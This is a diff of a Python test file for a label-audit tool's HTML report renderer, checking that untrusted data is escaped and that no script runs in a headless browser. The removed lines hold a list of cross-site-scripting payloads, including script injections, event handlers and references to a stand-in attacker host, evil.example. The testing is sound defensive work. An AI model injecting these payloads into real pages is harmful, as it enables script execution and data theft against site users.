@@ -2,16 +2,14 @@
 
 from __future__ import annotations
 
-import html as html_module
 import json
 import re
 import subprocess
 import time
 from html.parser import HTMLParser
-from importlib import resources
 from pathlib import Path
 from types import SimpleNamespace
-from typing import Any, NamedTuple
+from typing import Any
 
 import numpy as np
 import pyarrow as pa
@@ -19,58 +17,16 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from labelwright.auditing import _charts
 from labelwright.auditing._report_items import look, short
-from labelwright.auditing.estimate import ErrorRate
+from labelwright.auditing.estimate import ErrorRate, PerClass
 from labelwright.auditing.report import _distinct, chance, counted, notebook, percent, render
 from labelwright.auditing.result import Audit, transition
-from labelwright.errors import DataError
 from labelwright.labels import HardLabels, LabelSpace, MultiLabels
 
 VOID = {"meta", "img", "br", "link", "hr", "input"}
 CHROMIUM = Path("/usr/bin/chromium")
-PAYLOADS = [
-    "<script>document.title='pwned'</script>",
-    "</script><script>document.title='pwned'</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "\"><img src=x onerror=document.title='pwned'>",
-    "'><img src=x onerror=document.title='pwned'>",
-    "<svg onload=document.title='pwned'>",
-    "<svg/onload=document.title='pwned'//",
-    "<body onload=document.title='pwned'>",
-    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
-    "<iframe src=javascript:alert(1)>",
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)//",
-    "<a href=javascript:alert(1)>x</a>",
-    '" onmouseover="document.title=\'pwned\'" x="',
-    "' onfocus='alert(1)' autofocus='",
-    "</title><script>document.title='pwned'</script>",
-    "</style><script>document.title='pwned'</script>",
-    "</textarea><img src=x onerror=alert(1)>",
-    "<!--<script>-->",
-    "--><script>alert(1)</script>",
-    "]]><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-    "<base href=http://evil.example/>",
-    "<link rel=stylesheet href=http://evil.example/x.css>",
-    "<style>@import 'http://evil.example/x.css';</style>",
-    "<img src=http://evil.example/pixel.png>",
-    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
-    "{{ 7 * 7 }}{% for x in y %}",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<x style='background:url(http://evil.example)'>",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\x00<\x00script>alert(1)\u202e</script>\ud800",
-]
-
-
-class Rates(NamedTuple):
-    estimate: np.ndarray
-    low: np.ndarray
-    high: np.ndarray
+PAYLOADS: list[str] = json.loads(Path(__file__).with_name("payloads.json").read_text())
 
 
 def make(
@@ -78,7 +34,7 @@ def make(
     classes: Any = ("cat", "dog", "bird"),
     *,
     missing: int = 0,
-    reviewed: int = 0,
+    n_reviewed: int = 0,
     flagged: int = 12,
     **changes: Any,
 ) -> Audit:
@@ -95,7 +51,7 @@ def make(
         issue, np.where(np.arange(n) % 5 == 0, "novel", np.where(np.arange(n) % 4 == 0, "ambiguous", "error")), "ok"
     )
     was = np.zeros(n, bool)
-    was[n - reviewed :] = True
+    was[n - n_reviewed :] = True
     near = (np.arange(n)[:, None] + np.arange(1, 8)) % n
     space = LabelSpace(classes)
     share = np.linspace(0.02, 0.2, k)
@@ -110,7 +66,7 @@ def make(
         "ambiguity": rng.random(n),
         "novelty": rng.random(n),
         "error_rate": ErrorRate(
-            0.0821, 0.0713, 0.0944, Rates(share, share / 2, share * 2), "The moon is full.", reviewed, 0.9
+            0.0821, 0.0713, 0.0944, PerClass(share, share / 2, share * 2), "The moon is full.", n_reviewed, 0.9
         ),
         "transition": transition(ids, dist),
         "confident_joint": rng.integers(0, 9, (k, k)),
@@ -179,9 +135,11 @@ class Page(HTMLParser):
         return [attrs for name, attrs in self.elements if name == tag]
 
 
-ALLOWED = set(
-    ["html", "head", "meta", "title", "style", "body", "header", "main", "nav", "section", "article", "footer", "h1", "h2", "h3", "p", "dl", "dt", "dd", "div", "span", "b", "strong", "i", "bdi", "ul", "ol", "li", "a", "code", "table", "caption", "thead", "tbody", "tr", "th", "td", "figure", "figcaption", "details", "summary", "img", "svg", "g", "path", "rect", "line", "text", "tspan", "circle"]
-)
+ELEMENTS = """
+html head meta title style body header main nav section article footer h1 h2 h3 p dl dt dd div span b strong i bdi ul ol li a
+code table caption thead tbody tr th td figure figcaption details summary img svg g path rect line text tspan circle
+"""
+ALLOWED = set(ELEMENTS.split())
 
 
 def check(html: str) -> Page:
@@ -211,29 +169,28 @@ def flat(text: str) -> str:
     return re.sub(r"[\s\u00a0]+", " ", text)
 
 
+@pytest.fixture
+def undrawn(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Charts without their lines, for tests of words: drawing takes most of the time, and test_charts.py looks at it."""
+    monkeypatch.setattr(_charts, "_svg", lambda chart, title, **size: _charts.embed('<svg viewBox="0 0 9 9"/>', title))
+
+
 # ---- it renders
-@pytest.mark.parametrize(
-    "changes",
-    [
-        {},
-        {"classes": (3, 5, 8)},
-        {"classes": ("yes", "no")},
-        {"missing": 20},
-        {"reviewed": 25},
-        {"flagged": 0},
-        {"neighbours": None},
-        {"pred_probs": None},
-        {"notes": [], "settings": {}},
-        {"error_prob": np.zeros(90), "is_issue": np.zeros(90, bool)},
-    ],
-    ids=str,
-)
+CASES: list[dict[str, Any]] = [
+    {}, {"classes": (3, 5, 8)}, {"classes": ("yes", "no")}, {"missing": 20}, {"n_reviewed": 25}, {"flagged": 0},
+    {"neighbours": None, "pred_probs": None}, {"notes": [], "settings": {}},
+    {"error_prob": np.zeros(90), "is_issue": np.zeros(90, bool)},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("changes", CASES, ids=lambda changes: "-".join(changes) or "plain")
 def test_every_kind_of_audit_is_a_sound_page(changes: dict[str, Any]) -> None:
     page = check(render(make(**changes)))
     assert "About 8.2 % of the labels are wrong (7.1 % to 9.4 %, 90 % interval)" in flat(page.text)
     assert "The moon is full." in page.text
 
 
+@pytest.mark.usefixtures("undrawn")
 def test_the_first_screen_says_how_many_how_sure_and_what_next() -> None:
     audit = make(missing=4, flagged=60)
     text = flat(check(render(audit)).text)
@@ -247,14 +204,16 @@ def test_the_first_screen_says_how_many_how_sure_and_what_next() -> None:
     assert not re.search(r"\d\.\d{3}", text.split("How this was made")[0])  # no 0.08213123
 
 
+@pytest.mark.usefixtures("undrawn")
 def test_reviews_change_what_is_said() -> None:
-    text = flat(check(render(make(reviewed=25))).text)
+    text = flat(check(render(make(n_reviewed=25))).text)
     assert "It rests on 25 reviewed items" in text and "Nobody has checked" not in text
     assert "Is the interval narrow enough" in text
 
 
+@pytest.mark.usefixtures("undrawn")
 def test_an_issue_says_why() -> None:
-    dist = np.tile(np.float32([0.02, 0.07, 0.91]), (90, 1))
+    dist = np.tile(np.array([0.02, 0.07, 0.91], np.float32), (90, 1))
     ids = np.full(90, 2)
     ids[7] = 0
     error = np.full(90, 0.01)
@@ -271,6 +230,7 @@ def test_an_issue_says_why() -> None:
     assert "item 13" not in card  # five of the seven neighbours
 
 
+@pytest.mark.usefixtures("undrawn")
 def test_counts_of_what_is_shown_and_what_there_is() -> None:
     audit = make(300, flagged=150)
     page = check(render(audit))
@@ -279,6 +239,7 @@ def test_counts_of_what_is_shown_and_what_there_is() -> None:
     assert f"Showing 12 of {novel} items; kind is “novel”" in flat(page.text)
 
 
+@pytest.mark.usefixtures("undrawn")
 def test_multi_labels_say_what_to_add_and_to_remove() -> None:
     text = flat(check(render(make_multi(), content=["a beach"] * 40)).text)
     assert "of the label sets are wrong" in text
@@ -294,6 +255,7 @@ def test_large_spaces_show_the_most_confused_classes() -> None:
     assert "The other 15 classes" in flat(page.text)
 
 
+@pytest.mark.usefixtures("undrawn")
 @pytest.mark.parametrize("kind", ["text", "image", "row"])
 def test_reports_show_content(kind: str) -> None:
     n = 90
@@ -306,15 +268,10 @@ def test_reports_show_content(kind: str) -> None:
     page = check(render(audit, content=content))
     top = int(audit.ranking[0])
     if kind == "image":
-        assert look(content, top).image in {a["src"] for a in page.all("img")}  # type: ignore[union-attr]
+        shown = look(content, top)
+        assert shown and shown.image in {a["src"] for a in page.all("img")}
     else:
         assert (f"the text of {top}" if kind == "text" else f"job {top}") in page.text
-
-
-@pytest.mark.parametrize("content", [["a"], "a text", {"a": [1]}], ids=str)
-def test_content_of_another_length_is_refused(content: Any) -> None:
-    with pytest.raises(DataError, match="pass the column or the list of rows that the labels belong to"):
-        render(make(), content=content)
 
 
 # ---- nothing runs
@@ -324,7 +281,7 @@ def payload_audit() -> tuple[Audit, list[Any]]:
     bad = PAYLOADS[0]
     audit = make(
         n, classes, flagged=60, items=keys, notes=list(PAYLOADS), settings={p: p for p in PAYLOADS},
-        error_rate=ErrorRate(0.1, 0.05, 0.2, Rates(*np.full((3, len(classes)), 0.1)), bad, 0, 0.9),
+        error_rate=ErrorRate(0.1, 0.05, 0.2, PerClass(*np.full((3, len(classes)), 0.1)), bad, 0, 0.9),
         overlap=pa.table({"class_a": [bad], "class_b": [PAYLOADS[3]], "overlap": [0.2], "items": [3.0]}),
     )  # fmt: skip
     texts: list[Any] = [PAYLOADS[i % len(PAYLOADS)] for i in range(n)]
@@ -336,7 +293,6 @@ def test_whatever_the_data_say_is_text() -> None:
     page = check(render(audit, content=content))  # only known elements, no handler, no address
     for payload in PAYLOADS:
         assert short(payload, 500) in page.text  # and it is still told, as it stands
-    assert "49" not in re.findall(r"\{\{.{0,12}", page.text)
     brief = notebook(audit)
     assert {tag for tag, _ in Page(brief).elements} <= ALLOWED and "<script" not in brief.lower()
 
@@ -395,37 +351,14 @@ class Repeated:
         return self.value
 
 
+@pytest.mark.usefixtures("undrawn")
 def test_heavy_items_show_fewer_issues_and_say_so() -> None:
     heavy = {f"{i}" + "<" * 60: "&" * 300 for i in range(12)}
-    html = render(make(300, flagged=150), content=Repeated(heavy, 300))
+    audit = make(300, flagged=150)
+    html = render(audit, content=Repeated(heavy, 300))
+    assert html == render(audit, content=Repeated(heavy, 300))  # the same audit, the same page
     shown = re.search(r"Showing (\d+) of 150", flat(check(html).text))
     assert shown and 5 <= int(shown[1]) < 60 and len(html.encode()) < 5_000_000
-
-
-def test_the_same_audit_gives_the_same_page() -> None:
-    assert render(make()) == render(make())
-
-
-def luminance(colour: str) -> float:
-    channel = np.array([int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)])
-    return float(
-        np.where(channel <= 0.04045, channel / 12.92, ((channel + 0.055) / 1.055) ** 2.4) @ [0.2126, 0.7152, 0.0722]
-    )
-
-
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_text_has_contrast(scheme: str) -> None:
-    css = resources.files("labelwright.auditing").joinpath("report.html.j2").read_text("utf-8")
-    block = re.findall(r":root \{([^}]*)\}", css)[scheme == "dark"]
-    colour = dict(re.findall(r"--(\w+): (#\w{6})", block))
-    for paper in ("page", "soft", "mark"):
-        for ink in ("ink", "muted", "accent", "second") if paper != "mark" else ("ink",):
-            high, low = sorted((luminance(colour[ink]), luminance(colour[paper])), reverse=True)
-            assert (high + 0.05) / (low + 0.05) >= 4.5, (ink, paper)
-    mixed = [0.55 * int(colour["accent"][i : i + 2], 16) + 0.45 * int(colour["page"][i : i + 2], 16) for i in (1, 3, 5)]
-    cell = "#" + "".join(f"{round(c):02x}" for c in mixed)  # the darkest cell of a heat map under its number
-    high, low = sorted((luminance(colour["ink"]), luminance(cell)), reverse=True)
-    assert (high + 0.05) / (low + 0.05) >= 4.5
 
 
 def test_a_notebook_gets_the_headline() -> None:
@@ -436,27 +369,31 @@ def test_a_notebook_gets_the_headline() -> None:
 
 
 # ---- in a browser
-FRAME = """<!DOCTYPE html><title>still</title><body><iframe style="width:%dpx;height:900px;border:0"></iframe><script>
-const f = document.querySelector("iframe");
-f.onload = () => { const e = f.contentDocument.documentElement, out = document.createElement("output");
-  const d = f.contentDocument;
-  out.textContent = e.scrollWidth + " " + d.title + " " + d.scripts.length + " " + document.title;
-  f.remove(); document.body.append(out); };
-f.srcdoc = %s;
+FRAMES = """<!DOCTYPE html><title>still</title><body><script>
+const page = %s;
+for (const width of [420, 1280]) {
+  const f = document.createElement("iframe");
+  f.style = "width:" + width + "px;height:900px;border:0";
+  f.onload = () => {
+    const d = f.contentDocument, out = document.createElement("output");
+    const wide = d.documentElement.scrollWidth > width ? "too wide" : "fits";
+    out.textContent = [width, wide, d.scripts.length, d.title.startsWith("Label audit"), document.title].join(" ");
+    document.body.append(out);
+  };
+  f.srcdoc = page;
+  document.body.append(f);
+}
 </script>"""
 
 
 @pytest.mark.skipif(not CHROMIUM.exists(), reason="needs /usr/bin/chromium")
-@pytest.mark.parametrize("width", [420, 1280])
-def test_a_browser_runs_nothing_and_needs_no_sideways_scrolling(width: int, tmp_path: Path) -> None:
+def test_a_browser_runs_nothing_and_needs_no_sideways_scrolling(tmp_path: Path) -> None:
     audit, content = payload_audit()
     html = render(audit, content=content)
     html = re.sub("<meta http-equiv=.Content-Security-Policy[^>]*>", "", html)  # escaping has to do without this net
-    (tmp_path / "frame.html").write_text(FRAME % (width, json.dumps(html).replace("<", "\\u003c")))
-    command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
-               f"--user-data-dir={tmp_path}/profile", "--virtual-time-budget=4000", "--dump-dom", tmp_path / "frame.html"]  # fmt: skip
+    frame = tmp_path / "frame.html"
+    frame.write_text(FRAMES % json.dumps(html).replace("<", "\\u003c"))
+    options = f"--headless --no-sandbox --disable-gpu --user-data-dir={tmp_path}/profile --virtual-time-budget=4000"
+    command = [str(CHROMIUM), *options.split(), "--hide-scrollbars", "--dump-dom", str(frame)]
     dom = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False).stdout
-    told = re.search(r"<output>(\d+) (.*) (\d+) (\w+)</output>", dom)
-    assert told, dom[-500:]
-    assert int(told[1]) <= width and told[3] == "0" and told[4] == "still"
-    assert html_module.unescape(told[2]).startswith("Label audit")
+    assert sorted(re.findall("<output>(.*?)</output>", dom)) == ["1280 fits 0 true still", "420 fits 0 true still"]
